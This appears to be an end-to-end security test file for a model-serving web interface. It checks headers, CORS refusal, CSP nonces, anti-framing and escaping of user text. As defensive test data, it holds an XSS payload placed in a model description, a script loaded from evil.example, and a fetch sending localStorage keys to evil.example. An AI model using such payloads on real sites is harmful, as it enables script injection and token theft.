import { openBrowser } from '@berth/kit/browser'
import { registerModel } from '@berth/kit/models'
import { newPerson, type Person } from '@berth/kit/people'
import { deploy, untilStatus } from '@berth/kit/servers'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'

const berth = inject('berth')
let ann: Person
let server: { id: string; name: string }
let asset: string

beforeAll(async () => {
  ann = await newPerson(berth)
  server = await deploy(berth, ann.token, { name: 'teller', model: 'storyteller' })
  const index = await (await fetch(`${berth}/`)).text()
  asset = /src="(\/assets\/[^"]+)"/.exec(index)?.[1] ?? ''
  await untilStatus(berth, ann.token, server.id, 'READY')
})

const asAnn = () => ({ authorization: `Bearer ${ann.token}`, 'content-type': 'application/json' })
const tokenRequest = () =>
  JSON.stringify({ grant_type: 'password', username: ann.username, password: ann.password })
const chat = JSON.stringify({
  model: 'storyteller',
  max_tokens: 2,
  messages: [{ role: 'user', content: 'a fox' }],
})

/** Every kind of answer: where it is had, and whether it may be kept. */
const answers: [string, () => Promise<Response>, RegExp][] = [
  ['the interface', () => fetch(`${berth}/`), /^no-cache$/],
  ['a page of it', () => fetch(`${berth}/servers`, { headers: { accept: 'text/html' } }), /^no-cache$/],
  ['its script', () => fetch(`${berth}${asset}`), /^public, max-age=31536000, immutable$/],
  ['Apollo Sandbox', () => fetch(`${berth}/graphql`, { headers: { accept: 'text/html' } }), /^no-store$/],
  [
    'the graph',
    () => fetch(`${berth}/graphql`, { method: 'POST', headers: asAnn(), body: '{"query":"{ me { id } }"}' }),
    /^no-store$/,
  ],
  [
    'a refusal of the graph',
    () => fetch(`${berth}/graphql`, { method: 'POST', headers: asAnn(), body: '{' }),
    /^no-store$/,
  ],
  [
    'a token',
    () =>
      fetch(`${berth}/auth/token`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: tokenRequest(),
      }),
    /^no-store$/,
  ],
  ['the public keys', () => fetch(`${berth}/auth/.well-known/jwks.json`), /^public, max-age=\d+/],
  [
    'a chat',
    () =>
      fetch(`${berth}/${server.id}/v1/chat/completions`, { method: 'POST', headers: asAnn(), body: chat }),
    /^no-store$/,
  ],
  ['the list of models', () => fetch(`${berth}/v1/models`, { headers: asAnn() }), /^no-store$/],
  ['a refusal of inference', () => fetch(`${berth}/v1/models`), /^no-store$/],
  ['a place that does not exist', () => fetch(`${berth}/nothing`), /^no-store$/],
  ['health', () => fetch(`${berth}/health`), /^no-store$/],
]

describe.each(answers)('%s', (_what, get, cacheControl) => {
  let headers: Headers
  beforeAll(async () => {
    const answer = await get()
    await answer.arrayBuffer()
    headers = answer.headers
  })

  test('says how it may be used', () => {
    expect(Object.fromEntries(headers)).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'x-frame-options': 'DENY',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'permissions-policy': expect.stringContaining('camera=()'),
      'cache-control': expect.stringMatching(cacheControl),
      'content-security-policy': expect.stringContaining("frame-ancestors 'none'"),
    })
    expect(headers.get('content-security-policy')).not.toMatch(/unsafe|\*/)
    expect(headers.has('server') || headers.has('x-powered-by')).toBe(false)
  })

  test('sets no cookie, lets no other origin in, and forces no https on http', () => {
    for (const name of ['set-cookie', 'access-control-allow-origin', 'strict-transport-security']) {
      expect([name, headers.get(name)]).toEqual([name, null])
    }
  })
})

test('scripts come from this origin alone; those of Apollo Sandbox, on its page alone, by a nonce', async () => {
  const index = await fetch(`${berth}/`)
  expect(index.headers.get('content-security-policy')).toMatch(/^default-src 'self';/)
  const [first, second] = await Promise.all(
    [1, 2].map(async () => (await fetch(`${berth}/graphql`, { headers: { accept: 'text/html' } })).text()),
  )
  const policyOf = (page = '') =>
    /http-equiv="Content-Security-Policy" content="([^"]+)"/.exec(page)?.[1] ?? ''
  const scripts = /script-src ([^;]+)/.exec(policyOf(first))?.[1] ?? ''
  expect(scripts).toMatch(/'nonce-[0-9a-f]{64}'/)
  expect(scripts).not.toMatch(/unsafe|\*/)
  expect(policyOf(second)).not.toBe(policyOf(first))
})

test.each(['http://evil.example', 'null', 'https://localhost:4000'])(
  'a page of %s is let into nothing',
  async (origin) => {
    const paths = [
      '/graphql',
      '/auth/token',
      '/v1/chat/completions',
      `/${server.id}/v1/chat/completions`,
      '/',
    ]
    for (const path of paths) {
      const preflight = await fetch(`${berth}${path}`, {
        method: 'OPTIONS',
        headers: {
          origin,
          'access-control-request-method': 'POST',
          'access-control-request-headers': 'authorization,content-type',
        },
      })
      const asked = await fetch(`${berth}${path}`, { headers: { origin, ...asAnn() } })
      expect([path, preflight.ok]).toEqual([path, false])
      for (const { headers } of [preflight, asked]) {
        expect([...headers.keys()].filter((name) => name.startsWith('access-control-'))).toEqual([])
      }
    }
  },
)

describe('in a browser', () => {
  let browser: Browser
  let page: Page
  const violations: string[] = []

  beforeAll(async () => {
    browser = await openBrowser()
    page = await browser.newPage()
    page.setDefaultTimeout(60_000)
    page.on('console', (message) => {
      if (/Content.Security.Policy/i.test(message.text())) violations.push(message.text())
    })
    const description = `<img src=x onerror="window.hacked = true"><script>window.hacked = true</script>`
    await registerModel(berth, ann.token, {
      name: 'hostile',
      description,
      source: { uri: 's3://upstream/storyteller/storyteller.gguf' },
    })
  })
  afterAll(() => browser?.close())

  test('every page of the interface keeps to the policy', async () => {
    await page.goto(`${berth}/register`)
    await page.getByRole('button', { name: 'Register' }).waitFor()
    await page.goto(`${berth}/servers`)
    await page.getByLabel('Username').fill(ann.username)
    await page.getByLabel('Password').fill(ann.password)
    await page.getByRole('button', { name: 'Sign in' }).click()
    await page.getByRole('link', { name: 'teller' }).waitFor()
    await page.goto(`${berth}/servers/new`)
    await page.getByRole('button', { name: 'Show the plan' }).waitFor()
    await page.goto(`${berth}/servers/${server.id}`)
    await page.getByRole('heading', { name: /teller/ }).waitFor()
    await page.getByLabel('Message').fill('Tell me a story about a fox')
    await page.getByLabel('Message').press('Enter')
    await page.locator('[data-role=assistant]').first().filter({ hasText: /fox/i }).waitFor()
    await page.goto(`${berth}/nowhere`)
    await page.getByRole('heading', { name: 'There is no such page' }).waitFor()
    expect(violations).toEqual([])
  })

  test('what a person wrote is shown as text, and nothing of it runs', async () => {
    await page.goto(`${berth}/models`)
    await page.getByRole('paragraph').filter({ hasText: '<script>window.hacked = true</script>' }).waitFor()
    expect(await page.evaluate('window.hacked')).toBeUndefined()
    expect(violations).toEqual([])
  })

  test('a script that got into the page all the same does not run, and what it would load does not come', async () => {
    const told = page.evaluate(`new Promise((resolve) => {
      const directives = []
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        if (directives.push(effectiveDirective) === 3) resolve(directives.sort())
      })
      const inline = document.createElement('script')
      inline.textContent = 'window.hacked = true'
      const foreign = document.createElement('script')
      foreign.src = 'http://evil.example/script.js'
      document.body.append(inline, foreign)
      fetch('http://evil.example/?token=' + Object.keys(localStorage)).catch(() => undefined)
    })`)
    expect(await told).toEqual(['connect-src', 'script-src-elem', 'script-src-elem'])
    expect(await page.evaluate('window.hacked')).toBeUndefined()
  })

  test('no other page may put it into a frame', async () => {
    const other = await browser.newPage()
    other.setDefaultTimeout(60_000)
    const blocked = other.waitForEvent('console', (message) =>
      /frame-ancestors|X-Frame-Options/.test(message.text()),
    )
    await other.setContent(`<iframe src="${berth}/"></iframe>`)
    await blocked
    await other.close()
  })
})
